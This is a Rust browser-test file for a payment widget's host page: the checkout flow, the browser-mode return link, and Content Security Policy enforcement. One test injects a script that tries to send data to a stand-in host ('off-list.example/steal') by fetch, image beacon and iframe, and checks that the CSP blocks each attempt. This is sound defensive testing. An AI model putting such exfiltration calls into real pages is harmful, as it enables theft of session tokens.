//! The host page in a real browser engine (headless Chromium, fake camera): the backend's CSP
//! and Permissions-Policy are enforced, `host.js` runs the widget with the session, the widget's
//! camera works on the backend's origin, and the event navigations leave the page in place.

mod common;

use common::*;
use partner_backend::Backend;
use testkit::{chromedriver, chromium, profile_dir, skip, snap, wait_css};

#[tokio::test]
async fn the_host_page_runs_the_widget_to_completed() {
    if skip() {
        return;
    }
    let dir = Scratch::new("browser");
    let backend = Backend::start(test_config(dir.db_url())).await.expect("starts");
    let api = Api::new(&backend);
    let token = api.login("first_time").await;
    let created = api.buy(&token).await;

    let (_driver, driver_url) = chromedriver().await;
    let profile = profile_dir("host-page");
    let c = chromium(&driver_url, true, &profile).await;
    c.goto(&created.widget_url).await.expect("page loads");
    snap(&c, "host-page").await;
    let width = testkit::complete_kyc(&c, &profile).await;
    assert!(width > 0, "the camera works on the backend's origin");
    wait_css(&c, "#pw-pay").await.click().await.expect("pay");
    wait_css(&c, "#pw-result[data-status=completed]").await;

    // Every callback navigated to the event URL; each answered 204, so the page never left.
    let here = c.current_url().await.expect("url");
    assert_eq!(here.as_str(), created.widget_url, "the widget page is still shown");
    let errors = c.execute("return document.getElementById('host-status').hidden;", vec![]).await.expect("js");
    assert_eq!(errors, serde_json::Value::Bool(true), "host.js reported no error");

    let events = api.events(&token, &created.merchant_transaction_id, None).await;
    assert_eq!(statuses(&events).last(), Some(&"completed"));

    // Reloading the single-use link shows the friendly page with a way back.
    c.refresh().await.expect("reload");
    let title = wait_css(&c, "#host-title").await.text().await.expect("text");
    assert_eq!(title, "This link was already used");
    snap(&c, "host-link-used").await;
    c.close().await.expect("closes");
    backend.shutdown().await;
}

/// Browser mode: the host page runs in a plain browser; when the payment finishes it opens the
/// app's return link with the event (here an http link on loopback the test can observe; in the
/// app it is `prooframp://return`, which the phone hands to the app).
#[tokio::test]
async fn browser_mode_returns_to_the_app_link_when_the_payment_finishes() {
    if skip() {
        return;
    }
    let dir = Scratch::new("browser-mode");
    let mut config = test_config(dir.db_url());
    config.widget_mode = ramp_api::WidgetMode::Browser;
    let port = testkit::free_port();
    config.listen = format!("127.0.0.1:{port}").parse().expect("addr");
    config.app_return_url = format!("http://127.0.0.1:{port}/app-return");
    let backend = Backend::start(config).await.expect("starts");
    let api = Api::new(&backend);
    let token = api.login("first_time").await;
    let cfg: ramp_api::RampConfig = api.get(&token, "/v1/config").await.json().await.expect("config");
    assert_eq!(cfg.widget_mode, ramp_api::WidgetMode::Browser);
    assert_eq!(cfg.return_url.as_deref(), Some(format!("http://127.0.0.1:{port}/app-return").as_str()));
    let created = api.buy(&token).await;

    let (_driver, driver_url) = chromedriver().await;
    let profile = profile_dir("browser-mode");
    let c = chromium(&driver_url, true, &profile).await;
    c.goto(&created.widget_url).await.expect("page loads");
    let close = wait_css(&c, "#host-close").await.attr("href").await.expect("attr").unwrap_or_default();
    assert!(
        close.starts_with(&format!("http://127.0.0.1:{port}/app-return?v=1&tx=")),
        "close returns to the app: {close}"
    );
    testkit::complete_kyc(&c, &profile).await;
    wait_css(&c, "#pw-pay").await.click().await.expect("pay");

    let mut landed = None;
    for _ in 0..100 {
        let url = c.current_url().await.expect("url");
        if url.path() == "/app-return" {
            landed = Some(url);
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let landed = landed.expect("the browser opened the return link");
    let q: std::collections::HashMap<String, String> = landed.query_pairs().into_owned().collect();
    assert_eq!(q.get("tx"), Some(&created.merchant_transaction_id));
    assert_eq!(q.get("event").map(String::as_str), Some("payment_finished"));
    let events = api.events(&token, &created.merchant_transaction_id, None).await;
    assert!(!events.is_empty(), "the app's status stream has the transaction");
    c.close().await.expect("closes");
    backend.shutdown().await;
}

/// The widget page's CSP names its origins: a script on the page (a foothold, a compromised
/// dependency) cannot send the session's `init_token` or `signature` anywhere else, by fetch, by
/// image beacon or by frame. Chromium reports each refusal as a `securitypolicyviolation`.
#[tokio::test]
async fn the_widget_page_refuses_origins_off_its_list() {
    if skip() {
        return;
    }
    let dir = Scratch::new("browser-csp");
    let backend = Backend::start(test_config(dir.db_url())).await.expect("starts");
    let api = Api::new(&backend);
    let token = api.login("first_time").await;
    let created = api.buy(&token).await;
    let (_driver, driver_url) = chromedriver().await;
    let profile = profile_dir("host-csp");
    let c = chromium(&driver_url, true, &profile).await;
    c.goto(&created.widget_url).await.expect("page loads");
    wait_css(&c, "[data-testid=proof-widget]").await;
    let script = r#"
        const done = arguments[arguments.length - 1];
        const seen = [];
        document.addEventListener('securitypolicyviolation', e => seen.push(e.effectiveDirective + ' ' + e.blockedURI));
        fetch('https://off-list.example/steal?t=1', { mode: 'no-cors' }).catch(() => {});
        new Image().src = 'https://off-list.example/pixel.gif';
        const frame = document.createElement('iframe');
        frame.src = 'https://off-list.example/frame';
        document.body.appendChild(frame);
        fetch(location.origin + '/healthz').then(r => r.text()).then(own => setTimeout(() => done({ seen, own }), 1000));
    "#;
    let out = c.execute_async(script, vec![]).await.expect("script runs");
    let seen: Vec<String> = serde_json::from_value(out["seen"].clone()).expect("list");
    for directive in ["connect-src", "img-src", "frame-src"] {
        assert!(
            seen.iter().any(|v| v.starts_with(directive) && v.contains("off-list.example")),
            "{directive} must refuse off-list.example: {seen:?}"
        );
    }
    assert_eq!(out["own"], "ok", "the page's own origin stays reachable");
    assert!(seen.iter().all(|v| v.contains("off-list.example")), "nothing else was refused: {seen:?}");
    c.close().await.expect("closes");
    backend.shutdown().await;
}
